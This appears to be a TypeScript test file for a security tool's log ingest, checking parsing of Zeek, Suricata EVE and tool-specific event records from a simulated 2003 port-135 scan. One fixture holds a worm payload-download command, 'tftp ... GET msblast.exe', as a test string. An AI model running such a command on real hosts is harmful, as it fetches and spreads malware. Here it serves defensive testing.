// Log ingest: Zeek conn.log TSV and JSON, Suricata EVE, Vigil event lines; bad records are
// reported with file and line and skipped while good ones are kept.

import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, writeFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { readLogEvents, sniffLogFormat } from '../../src/ingest/log-ingest.js';
import { connStateOutcome } from '../../src/ingest/zeek-conn-reader.js';
import { parseEveTimestamp, eveFlowOutcome } from '../../src/ingest/suricata-eve-reader.js';
import type { IngestProblem, IngestStats } from '../../src/ingest/ingest-types.js';
import type { VigilEvent } from '../../src/model/event.js';

const dir = mkdtempSync(join(tmpdir(), 'vigil-ingest-'));
test.after(() => rmSync(dir, { recursive: true, force: true }));

async function ingest(name: string, content: string): Promise<{ events: VigilEvent[]; stats: IngestStats; problems: IngestProblem[] }> {
  const path = join(dir, name);
  writeFileSync(path, content);
  const stats: IngestStats = { file: path, format: '?', records: 0, events: 0, bad: 0, skipped: 0 };
  const problems: IngestProblem[] = [];
  const events: VigilEvent[] = [];
  for await (const e of readLogEvents(path, stats, { onProblem: (p) => problems.push(p) })) events.push(e);
  return { events, stats, problems };
}

const TSV = [
  '#separator \\x09',
  '#set_separator\t,',
  '#empty_field\t(empty)',
  '#unset_field\t-',
  '#path\tconn',
  '#open\t2003-08-11-16-00-00',
  '#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tservice\tduration\torig_bytes\tresp_bytes\tconn_state\tmissed_bytes\thistory',
  '#types\ttime\tstring\taddr\tport\taddr\tport\tenum\tstring\tinterval\tcount\tcount\tstring\tcount\tstring',
  '1060617600.123456\tCa1\t10.0.0.5\t1042\t192.0.2.1\t135\ttcp\t-\t-\t-\t-\tS0\t0\tS',
  '1060617601.000000\tCa2\t10.0.0.5\t1043\t192.0.2.2\t135\ttcp\tdce_rpc\t0.5\t72\t60\tSF\t0\tShADadFf',
  'garbage line without tabs',
  '1060617602.000000\tCa3\t10.0.0.5\t1044\t192.0.2.3\tnotaport\ttcp\t-\t-\t-\t-\tREJ\t0\tSr',
  '1060617603.000000\tCa4\t10.0.0.6\t0\t192.0.2.3\t8\ticmp\t-\t-\t-\t-\tOTH\t0\t-',
  '1060617604.000000\tCa5\t10.0.0.7\t1045\t192.0.2.4\t4444\ttcp\t-\t1.0\t0\t0\tRSTO\t0\tShR',
  '#close\t2003-08-11-17-00-00',
  '',
].join('\n');

test('Zeek conn.log TSV: header-driven columns, conn_state outcomes, bad lines with their line numbers', async () => {
  const { events, stats, problems } = await ingest('conn.log', TSV);
  assert.equal(stats.format, 'zeek-tsv');
  assert.deepEqual({ records: stats.records, events: stats.events, bad: stats.bad, skipped: stats.skipped }, { records: 6, events: 3, bad: 2, skipped: 1 });
  assert.deepEqual(problems.map((p) => p.line), [11, 12]);
  assert.match(problems[1]!.message, /id\.resp_p/);
  assert.ok(problems.every((p) => p.file.endsWith('conn.log')));
  const [a, b, c] = events as (VigilEvent & { type: 'conn' })[];
  assert.deepEqual(
    { ts: a!.ts, src: a!.src, dst: a!.dst, dport: a!.dport, sport: a!.sport, outcome: a!.outcome, session: a!.session },
    { ts: 1060617600123.456, src: '10.0.0.5', dst: '192.0.2.1', dport: 135, sport: 1042, outcome: 'failure', session: 'Ca1' },
  );
  assert.equal(b!.outcome, 'success');
  assert.equal(b!.bytesIn, 72);
  assert.equal(c!.outcome, 'failure', 'RSTO without data is a failed contact');
});

test('Zeek conn.log JSON, same mapping', async () => {
  const lines = [
    JSON.stringify({ ts: 1060617600.5, uid: 'Cj1', 'id.orig_h': '10.0.0.9', 'id.orig_p': 1000, 'id.resp_h': '192.0.2.9', 'id.resp_p': 135, proto: 'tcp', conn_state: 'REJ' }),
    JSON.stringify({ ts: '2003-08-11T16:00:01.000000Z', uid: 'Cj2', 'id.orig_h': '10.0.0.9', 'id.orig_p': 1001, 'id.resp_h': '192.0.2.10', 'id.resp_p': 135, proto: 'tcp', conn_state: 'S1' }),
    '{"ts": 1, "id.orig_h": "x"',
  ].join('\n');
  const { events, stats, problems } = await ingest('conn.json', lines);
  assert.equal(stats.format, 'zeek-json');
  assert.deepEqual(events.map((e) => [e.ts, (e as { outcome?: string }).outcome]), [[1060617600500, 'failure'], [Date.UTC(2003, 7, 11, 16, 0, 1), 'success']]);
  assert.equal(problems[0]?.line, 3);
  assert.match(problems[0]!.message, /not JSON/);
});

test('Suricata EVE: flow, alert and dcerpc records; others skipped', async () => {
  const lines = [
    { timestamp: '2003-08-11T18:00:00.250000+0200', flow_id: 1, event_type: 'flow', src_ip: '10.1.1.1', src_port: 3000, dest_ip: '192.0.2.5', dest_port: 135, proto: 'TCP', flow: { pkts_toserver: 3, pkts_toclient: 0, bytes_toserver: 180, bytes_toclient: 0 } },
    { timestamp: '2003-08-11T16:00:01.000000+0000', flow_id: 2, event_type: 'alert', src_ip: '10.1.1.1', src_port: 3001, dest_ip: '192.0.2.5', dest_port: 135, proto: 'TCP', alert: { signature_id: 2192, signature: 'NETBIOS DCERPC ISystemActivator bind attempt', severity: 1 } },
    { timestamp: '2003-08-11T16:00:02.000000+0000', flow_id: 3, event_type: 'dcerpc', src_ip: '10.1.1.1', src_port: 3002, dest_ip: '192.0.2.5', dest_port: 135, proto: 'TCP', dcerpc: { request: 'REQUEST', response: 'RESPONSE', call_id: 27, req: { opnum: 4, frag_cnt: 1, stub_data_size: 24 }, res: { frag_cnt: 1, stub_data_size: 68 } } },
    { timestamp: '2003-08-11T16:00:03.000000+0000', event_type: 'stats', stats: {} },
    { timestamp: 'yesterday', event_type: 'flow', src_ip: 'a', dest_ip: 'b', dest_port: 1, proto: 'TCP' },
  ].map((o) => JSON.stringify(o)).join('\n');
  const { events, stats, problems } = await ingest('eve.json', lines);
  assert.equal(stats.format, 'eve');
  assert.deepEqual(events.map((e) => e.type), ['conn', 'external_alert', 'call']);
  assert.equal(events[0]!.ts, Date.UTC(2003, 7, 11, 16, 0, 0, 250));
  assert.equal((events[0] as { outcome: string }).outcome, 'failure');
  assert.equal((events[1] as { signatureId: number }).signatureId, 2192);
  const call = (events[2] as VigilEvent & { type: 'call' }).call;
  assert.deepEqual([call.callId, call.opnum, call.reqStubLen, call.respStubLen], [27, 4, 24, 68]);
  assert.equal(stats.skipped, 1);
  assert.deepEqual(problems.map((p) => p.line), [5]);
});

test('Vigil event lines: schema checked per type', async () => {
  const good = { type: 'conn', ts: '2003-08-11T16:00:00.000001Z', src: '10.0.0.1', dst: '192.0.2.1', proto: 'tcp', dport: 135, outcome: 'failure' };
  const lines = [good, { ...good, outcome: 'maybe' }, { ...good, type: 'payload', text: 'tftp -i 10.0.0.1 GET msblast.exe', dport: 4444 }, { ...good, dport: 70000 }].map((o) => JSON.stringify(o)).join('\n');
  const { events, problems } = await ingest('events.jsonl', lines);
  assert.deepEqual(events.map((e) => e.type), ['conn', 'payload']);
  assert.equal(events[0]!.ts, Date.UTC(2003, 7, 11, 16));
  assert.equal(events[0]!.source, 'jsonl');
  assert.deepEqual(problems.map((p) => [p.line, /outcome|dport/.test(p.message)]), [[2, true], [4, true]]);
});

test('unknown formats are refused with file and line; mapping tables', async () => {
  await assert.rejects(ingest('x.txt', '\nhello\n'), /x\.txt:2: not a Zeek conn\.log/);
  assert.equal(sniffLogFormat('#fields\tts'), 'zeek-tsv');
  assert.deepEqual(['S0', 'REJ', 'SH', 'SF', 'S1', 'OTH'].map((s) => connStateOutcome(s, 0, 0)), ['failure', 'failure', 'failure', 'success', 'success', 'unknown']);
  assert.equal(connStateOutcome('RSTR', 10, 0), 'success');
  assert.ok(Math.abs(parseEveTimestamp('2009-11-24T21:27:09.534255+0100') - (Date.UTC(2009, 10, 24, 20, 27, 9, 534) + 0.255)) < 1e-6);
  assert.equal(eveFlowOutcome({ pkts_toclient: 5, bytes_toclient: 400 }, { state: 'closed' }), 'success');
  assert.equal(eveFlowOutcome({ pkts_toclient: 1, bytes_toclient: 54 }, { syn: true, rst: true }), 'failure');
});
